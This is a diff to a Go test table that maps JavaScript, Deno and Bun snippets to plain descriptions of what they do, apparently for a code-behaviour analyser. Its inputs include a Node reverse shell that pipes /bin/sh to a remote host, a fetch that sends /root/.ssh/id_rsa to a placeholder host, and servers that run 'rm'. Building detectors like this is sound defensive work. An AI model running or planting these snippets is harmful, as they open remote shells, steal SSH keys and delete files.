@@ -198,7 +198,10 @@ func TestNode(t *testing.T) {
 		{`const s = new (require("net").Socket)(); s.connect(80, "x")`, "like nc x 80"},
 		{`const net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []); const c = new net.Socket(); c.connect(4444, "h", () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })`, "run /bin/sh ⏎ like nc h 4444"},
 		{`require("net").createServer(s => {}).listen(4444)`, "like nc -l 4444"},
-		{`require("http").createServer((q, r) => r.end("x")).listen(8080)`, "like nc -l 8080"},
+		{`require("http").createServer((q, r) => r.end("x")).listen(8080)`, ""},
+		{`require("http").createServer((q, r) => require("child_process").exec("rm x")).listen(8080)`, "sh 'rm x'"},
+		{`Deno.serve(() => new Deno.Command("rm").output())`, "run rm"},
+		{`Bun.serve({port: 3, fetch(r) { require("child_process").exec("rm x") }})`, "sh 'rm x'"},
 		{`require("dgram").createSocket("udp4").send("x", 53, "h")`, "like nc -u h 53"},
 		{`fetch("https://x/?k=" + fs.readFileSync("/root/.ssh/id_rsa"))`, "like curl https://x/?k=* ⏎ < /root/.ssh/id_rsa"},
 
